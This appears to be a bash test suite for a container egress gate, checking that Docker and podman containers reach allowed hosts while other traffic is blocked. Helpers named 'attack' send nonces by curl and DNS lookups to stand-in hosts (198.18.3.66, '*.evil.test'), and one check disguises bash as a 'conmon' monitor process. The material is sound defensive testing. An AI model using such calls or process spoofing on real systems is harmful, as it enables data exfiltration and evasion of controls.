#!/usr/bin/env bash
# SPDX-License-Identifier: GPL-3.0-or-later
# shellcheck disable=SC1091,SC2016,SC2034,SC2046,SC2329
# Containers of real engines behind scopes: Docker (default bridge, user-defined network with its resolver 127.0.0.11, IPv6, the host's
# network, another container's, published ports), podman as root (netavark, aardvark-dns), and both rootless (slirp4netns).
. "$(dirname "$0")/lib.sh"
. "$(dirname "$0")/engines.sh"
bed
trap engines_down EXIT
engines_up
h g ip -6 route add 2001:db8:30::/64 via 2001:db8:1::2
h s ip -6 route add 2001:db8:30::/64 via 2001:db8:2::1
h c sysctl -qw net.ipv6.conf.all.forwarding=1

DRIVER=$T/engine_driver
(cd "$ROOT" && "${CC:-gcc}" -I. -D_GNU_SOURCE -std=gnu17 -g -O1 -Wall -Wextra -fsanitize=address,undefined -o "$DRIVER" tests/netns/engine_driver.c \
    ctl/{engine,engine_find,engine_sender,rtnetlink,process_proc,process_socket,process_secret,package}.c nft/{cgroup,cgroup_tree,netlink}.c core/*.c \
    $(pkg-config --cflags --libs libmnl jansson libidn2)) || exit 1

docker network create --subnet 172.30.0.0/24 user > /dev/null
docker network create --subnet 172.31.0.0/24 --ipv6 --subnet 2001:db8:30::/64 six > /dev/null
h c env -C "$T" podman network create --subnet 10.90.0.0/24 pods > /dev/null
docker_run default1 -p 8080:9000
docker_run default2
docker_run user1 --network user
docker_run user2 --network user
docker_run six1 --network six
docker_run host1 --network host
docker_run joined1 --network container:user1
podman_run pod1
podman_run pod2 --network pods
podman_run pod3 --network pods
builder_run less1
builder_podman network create less > /dev/null
builder_run less2 --network less
builder_run less3 --network less --userns keep-id
rootless_up own
rootless own network create user > /dev/null
rootless_run own own1 -p 8090:9000
rootless_run own own2 --network user
rootless_run own own3 --network user
rootless_run own own4 --network host

# client COMMAND...: in the container IN.
client() {
    case $IN in
    pod*) podman exec "$IN" "$@" ;;
    less*) builder_podman exec "$IN" "$@" ;;
    own*) rootless own exec "$IN" "$@" ;;
    *) docker exec "$IN" "$@" ;;
    esac
}
attack() { client curl -s --max-time 15 "http://198.18.3.66/$1"; }
attack_six() { client curl -s --max-time 15 "http://[2001:db8:3::66]/$1"; }
attack_name() { client timeout 15 getent ahostsv4 "$1.evil.test"; }
held() {
    local n from
    n=$(nonce)
    from=$(wc -l < "$T/events")
    quick 3000 fails attack "$n"
    expect_not_arrived "$n"
    said "$from" not_resolved 198.18.3.66
    from=$(wc -l < "$T/events")
    fails attack_name "$n"
    expect_not_arrived "$n"
    said "$from" not_in_allowlist "$n.evil.test"
    # The same address, another name.
    quick 3000 fails fetch --resolve mirror.test:443:198.18.2.80 https://mirror.test/hello
}
works() {
    fetch https://allowed.test/hello | grep hello
    [ "$(fetch https://allowed.test/medium | sha256sum)" = "$(sha256sum < "$T/www/medium")" ]
}
says() {
    local IN=$1
    [ "$(client timeout 20 sh -c 'echo hello | socat -t 15 - "$1"' sh "$2")" = hello ]
}
listens() { # NAME of a container, and of its engine
    IN=$1 client sh -c 'socat TCP4-LISTEN:9000,fork,reuseaddr EXEC:cat > /dev/null 2>&1 &'
}
each_other() { says default1 TCP4:172.17.0.3:9000 && says user1 TCP4:user2:9000; }
each_other_rootless() { says own2 TCP4:own3:9000; }
published() { [ "$(echo hello | h g timeout 20 socat -t 15 - "TCP4:198.18.1.2:${1:-8080}")" = hello ]; }
hairpin() { says user1 TCP4:198.18.1.2:8080; }

PLACES=(default1 user1 six1 host1 joined1 pod1 pod2 less1 less2 own1 own2 own4)
for IN in default1 default2 user2 own1 own3; do
    listens $IN
    eventually 10 client grep -q :2328 /proc/net/tcp
done
for IN in "${PLACES[@]}"; do
    check "$IN: without the gate" attack_reaches attack
    check "$IN: without the gate, by a name" attack_reaches attack_name
done
IN=six1 check "six1: without the gate, IPv6" attack_reaches attack_six
check "without the gate containers reach each other" each_other
check "without the gate containers of rootless Docker reach each other" each_other_rootless
check "without the gate a published port is reached" published
check "without the gate a published port of rootless Docker is reached" published 8090

# What ctl/engine.c finds, whichever engine made it and however it is asked.
lines() { h c "$DRIVER" "$@" | sed -E 's/[0-9a-f]{64}$/ID/' | sort | tr '\n' ' '; }
finds() { # LINES ARGUMENT...
    local want=$1 found
    shift
    found=$(lines "$@")
    [ "$found" = "$want" ] || die "$*: $found, not $want"
}
bridge() { echo "br-$(docker network inspect -f '{{slice .Id 0 12}}' "$1")"; }
container_lines() {
    finds "cgroup $CGROUP/docker/ID source 172.17.0.2/32 " container default1
    finds "cgroup $CGROUP/docker/ID interface $(bridge user) " container user1
    finds "cgroup $CGROUP/docker/ID interface $(bridge user) " container "$(docker inspect -f '{{.Id}}' user1)"
    finds "cgroup $CGROUP/docker/ID interface $(bridge user) source 172.17.0.4/32 " container both1
    finds "cgroup $CGROUP/docker/ID interface $(bridge user) " container joined1
    finds "cgroup $CGROUP/docker/ID " container host1
    finds "cgroup $CGROUP/docker/ID " container none1
}
podman_lines() {
    finds "cgroup $CGROUP/podman/libpod-ID source 10.88.0.2/32 " container pod1
    finds "cgroup $CGROUP/podman/libpod-ID interface podman1 " container pod2
    finds "cgroup $CGROUP/podman/libpod-ID interface podman1 " container "$(podman inspect -f '{{.Id}}' pod2 2> /dev/null | cut -c 1-12)"
    finds "cgroup $CGROUP/builder " container less1
    finds "cgroup $CGROUP/builder " container less2 # not that of the same user's dockerd
    finds "cgroup $CGROUP/builder " container less3
}
# A process of a container that looks like a monitor is none.
forged_monitor() {
    IN=default1 client sh -c 'cp /bin/bash /tmp/conmon && /tmp/conmon -c "sleep 3600 & wait" -n less1 > /dev/null 2>&1 &'
    eventually 15 docker exec default1 pgrep -x conmon
    finds "cgroup $CGROUP/builder " container less1
}
wrong_lines() {
    finds "error: container own1: no running one is known to Docker or podman " container own1 # its engine is the user's: not asked
    finds "error: container nosuch: no running one is known to Docker or podman " container nosuch
    finds "error: container '../info': not a name or id of a container " container ../info
    finds "error: container twin: several have that name; say its id " container twin
    h c "$DRIVER" container macvlan1 | grep -q 'a network that the gate cannot see'
}
below_lines() {
    local both
    both=$({ bridge six && bridge user; } | sort | sed 's/^/interface /' | tr '\n' ' ')
    finds "${both}source 172.17.0.2/32 source 172.17.0.3/32 source 172.17.0.4/32 source 172.17.0.5/32 " below "$CGROUP/docker"
    finds "interface podman1 source 10.88.0.2/32 source 10.88.0.3/32 " below "$CGROUP/podman"
    finds '' below "$CGROUP/engine"
    finds '' below "$CGROUP/builder"
    finds '' below "$CGROUP/own"
    finds '' below "$CGROUP/nosuch"
}

gate_for() { # more of the profile's endpoints, more lines of the scope, its resolvers, more of its cgroups
    cat > "$T/policy.yaml" <<YAML
version: 1
resolvers: [${3:-198.18.2.53}]
profiles: { job: { allow: [allowed.test$1] } }
scopes:
  - name: containers
    match: { interface: [docker0, "br-*", "podman*"], cgroup: [$CGROUP/docker${4:-}] }
    profile: job
    ${2:-}
  - { name: rootless, match: { cgroup: [$CGROUP/builder, $CGROUP/own] }, profile: job${2:+, $2} }
unmatched: pass
YAML
    gate_up output "$T/policy.yaml"
}
docker_run both1 --network user
docker network connect bridge both1
docker_run none1 --network none
docker_run twin
podman_run twin
docker network create -d macvlan -o parent=c0 --subnet 172.29.0.0/24 macvlan > /dev/null
docker_run macvlan1 --network macvlan
check "a container's match lines: Docker" container_lines
check "a container's match lines: podman" podman_lines
check "a container's match lines: a forged monitor" forged_monitor
check "a container's match lines: what is wrong" wrong_lines
check "what containers below a cgroup add" below_lines
docker rm -f twin macvlan1 none1 > /dev/null

gate_for ''
for IN in "${PLACES[@]}"; do
    check "$IN: what is allowed works, by name" works
    check "$IN: what is not allowed is held" held
done
IN=six1
check "six1: IPv6 is held" attack_refused not_resolved 2001:db8:3::66 attack_six
check "six1: what is allowed works over IPv6" fetch -6 https://allowed.test/hello
check "containers of one bridge are judged (Docker sets bridge-nf-call-iptables)" fails each_other
check "containers of rootless Docker reach each other: that stays in the user's network" each_other_rootless
check "a published port is refused" fails published
check "a published port of rootless Docker is refused" fails published 8090
check "a published port from another network is refused" fails hairpin
gate_down
gate_for ', 172.17.0.0/16, 172.30.0.0/24, 198.18.1.2:8080' 'incoming: pass'
check "containers reach each other where their networks are allowed" each_other
check "a published port with incoming: pass" published
check "a published port of rootless Docker with incoming: pass" published 8090
check "a published port from another network, allowed" hairpin
gate_down

# podman's resolver, pinned: it also knows the containers.
gate_for ', dns://pod3@10.90.0.0/24' '' 10.90.0.1
IN=pod2
check "aardvark-dns pinned: what is allowed works" works
check "aardvark-dns pinned: what is not is held" held
check "aardvark-dns pinned: another container's name" client getent ahostsv4 pod3
gate_down

# The host's resolver on loopback: 127.0.0.11 cannot ask it from the container's network, so dockerd asks from the host's.
start "$T/stub.log" c dnsmasq -k --no-resolv --no-hosts --server=198.18.2.53 --listen-address=127.0.0.1 --bind-interfaces --user=root --pid-file=
eventually 15 h c sh -c 'ss -lnu | grep -q 127.0.0.1:53'
resolver c 127.0.0.1
WARNING="Docker's resolver for containers"
docker_run stub1 --network user
IN=stub1
gate_for ''
check "127.0.0.11 asks past the gate" attack_reaches attack_name
check "the gate says so as it starts" eventually 3 has "$WARNING.*\"dns\": \[ \"198.18.2.53\" \].*cgroup: $CGROUP/engine" "$T/gate.log"
gate_down
gate_for '' '' 127.0.0.1 ", $CGROUP/engine"
check "dockerd in the scope: what is allowed works" works
check "dockerd in the scope: what is not is held" held
check "dockerd in the scope: nothing to say" fails has "$WARNING" "$T/gate.log"
for IN in own1 own2; do
    check "$IN, the host's resolver on loopback: what is allowed works" works
    check "$IN, the host's resolver on loopback: what is not is held" held
done
gate_down
dockerd_down
dockerd_up --dns 198.18.2.53
docker_run stub2 --network user
IN=stub2
gate_for ''
check "dns in Docker's configuration: what is allowed works" works
check "dns in Docker's configuration: what is not is held" held
check "dns in Docker's configuration: nothing to say" fails has "$WARNING" "$T/gate.log"
gate_down
finish
